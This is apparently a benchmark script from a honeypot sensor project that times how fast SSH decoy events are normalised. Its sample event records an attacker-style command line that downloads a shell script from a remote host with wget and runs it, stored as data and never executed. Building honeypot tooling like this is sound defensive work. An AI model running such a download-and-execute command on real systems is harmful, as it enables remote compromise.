/** Events a second through `normaliseSensorEvent` on one core: `node stages/2-normalise/bench/normalise.bench.ts`. Prints JSON. */
import { normaliseSensorEvent } from '../decoy/decoy.parser.ts';

const COUNT = 200_000;
const sensed = {
  '@timestamp': '2026-11-21T09:30:00.000Z',
  event: { kind: 'event', category: ['process'], type: ['start'], action: 'command-input', dataset: 'netsentinel.ssh' },
  source: { ip: '198.51.100.7', port: 40_000 },
  destination: { ip: '203.0.113.9', port: 22 },
  network: { transport: 'tcp', protocol: 'ssh', type: 'ipv4' },
  process: { command_line: 'cd /tmp; wget http://192.0.2.1/x.sh; sh x.sh' },
  user: { name: 'root' },
  service: { type: 'ssh' },
  netsentinel: { decoy: { id: 'ssh-1', type: 'ssh' }, session: { id: 'abc', sequence: 4 } },
};

function round(): number {
  const start = performance.now();
  for (let sequence = 1; sequence <= COUNT; sequence++)
    normaliseSensorEvent(sensed, {
      sensor: { id: 'ssh-1', type: 'ssh' },
      epoch: 'm1abcdef',
      sequence,
      receivedAt: 1_795_253_400_000,
      sourceVerified: true,
    });
  return Math.round((COUNT / (performance.now() - start)) * 1000);
}

round();
process.stdout.write(`${JSON.stringify({ bench: 'normalise', eventsPerSecond: round() })}\n`);
